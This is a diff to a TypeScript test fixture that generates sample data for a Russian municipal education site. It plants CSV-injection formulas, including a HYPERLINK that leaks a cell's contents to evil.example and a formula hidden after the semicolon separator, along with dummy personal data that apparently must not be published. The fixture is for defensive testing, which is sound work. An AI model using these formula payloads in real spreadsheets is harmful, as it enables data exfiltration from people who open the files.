@@ -9,6 +9,10 @@ export const TRICKY_NAME = 'Школа <b>«Радуга»</b> & "Ко"';
 /** Text a spreadsheet would run as a formula, in a school's name and in roadmap lines (CSV injection). */
 export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"СОШ № 3")';
 export const FORMULA_TEXTS = [FORMULA_NAME, '-Анализ результатов ОГЭ', '+управление образования', '@ОО'];
+/** A formula behind the separator Russian Excel uses: a comma-separated file opened there splits it off. */
+export const FORMULA_AFTER_SEPARATOR = 'управление образования;=1+1';
+/** Personal data typed where it does not belong: an extra cell of the register, a report's notes. None may be published. */
+export const PLANTED = ['Петров Пётр Петрович', '+7 912 345-67-89', 'ivanova.a@mail.example', '112-233-445 95'];
 
 export function independentMunicipality(): string {
   const semi = (rows: (string | number)[][]) => toCp1251(rows.map((r) => r.join(';')).join('\r\n') + '\r\n');
@@ -45,7 +49,7 @@ export function independentMunicipality(): string {
       'Мониторинг качества обучения',
       'Анализ результатов ОГЭ в образовательных организациях (далее - ОО) с высокими результатами ОГЭ и с низкими результатами ОГЭ',
       'июль 2022',
-      'управление образования, общеобразовательные организации',
+      `"${FORMULA_AFTER_SEPARATOR}, общеобразовательные организации"`,
     ],
     [
       '1.3',
@@ -57,8 +61,8 @@ export function independentMunicipality(): string {
   ];
   const reports = [
     ['Пункт', 'Период', 'Статус', 'Примечание'],
-    ['1.1', '2022-Q3', 'выполнено', 'Справка подготовлена'],
-    ['1.2', '2022-Q3', 'выполняется', ''],
+    ['1.1', '2022-Q3', 'выполнено', `Справка подготовлена, тел. ответственного ${PLANTED[1]}, ${PLANTED[2]}`],
+    ['1.2', '2022-Q3', 'выполняется', `СНИЛС ответственного ${PLANTED[3]}`],
   ];
   return makeData({
     'site.yaml':
@@ -66,7 +70,7 @@ export function independentMunicipality(): string {
     'schools.csv': semi([
       ['Код ОО', 'Краткое наименование', 'Тип'],
       ['01', TRICKY_NAME, 'СОШ'],
-      ['02', 'Гимназия № 2', 'гимназия'],
+      ['02', 'Гимназия № 2', 'гимназия', PLANTED[0]],
       ['03', FORMULA_NAME, 'СОШ'],
     ]),
     'results/2021/ege.csv': semi(ege.map((r, i) => (i === 0 ? r : [r[0], r[1], r[2], Number(r[3]) - 2, r[4]]))),
